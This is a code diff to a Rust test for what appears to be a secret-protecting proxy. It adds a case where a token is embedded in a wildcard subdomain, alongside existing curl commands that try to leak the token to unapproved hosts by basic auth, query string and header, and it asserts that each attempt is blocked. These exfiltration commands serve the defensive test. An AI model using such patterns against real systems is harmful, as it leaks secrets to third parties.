@@ -321,6 +321,8 @@ fn a_placeholder_sent_to_another_host_is_blocked_and_logged() {
             &format!("OTHER_TOKEN@other.secret.test:{port}"),
             "--allow-domain",
             &format!("plain.test:{plain_port}"),
+            "--allow-domain",
+            &format!(".wild.test:{port}"),
             "--allow-http",
             "--add-host",
             "api.secret.test=127.0.0.1",
@@ -338,6 +340,7 @@ fn a_placeholder_sent_to_another_host_is_blocked_and_logged() {
 curl -sS --noproxy '*' -o /dev/null -w 'basic %{{http_code}}\n' -u "me:$TOKEN" "https://other.secret.test:{port}/"
 curl -sS --noproxy '*' -o /dev/null -w 'plain %{{http_code}}\n' "http://plain.test:{plain_port}/?t=$TOKEN"
 curl -sS -o /dev/null -w 'proxied %{{http_code}}\n' -H "X-Token: $TOKEN" "http://plain.test:{plain_port}/"
+curl -sS -o /dev/null -w 'connect %{{http_connect}}\n' "https://$TOKEN.wild.test:{port}/"
 "#
         ),
     );
@@ -346,6 +349,7 @@ curl -sS -o /dev/null -w 'proxied %{{http_code}}\n' -H "X-Token: $TOKEN" "http:/
     assert!(s.contains("basic 403"), "{s}");
     assert!(s.contains("plain 403"), "{s}");
     assert!(s.contains("proxied 403"), "{s}");
+    assert!(s.contains("connect 403"), "{s}");
     assert!(up.requests().is_empty(), "{:?}", up.requests());
     assert_eq!(*plain_seen.lock().unwrap(), 0);
     let events = secret_events(&ev);
@@ -353,7 +357,7 @@ curl -sS -o /dev/null -w 'proxied %{{http_code}}\n' -H "X-Token: $TOKEN" "http:/
         .iter()
         .filter(|e| e["action"] == "blocked" && e["name"] == "TOKEN")
         .count();
-    assert_eq!(blocked, 4, "{events:?}");
+    assert_eq!(blocked, 5, "{events:?}");
     assert!(stderr(&out).contains("secret TOKEN: blocked"));
 }
 
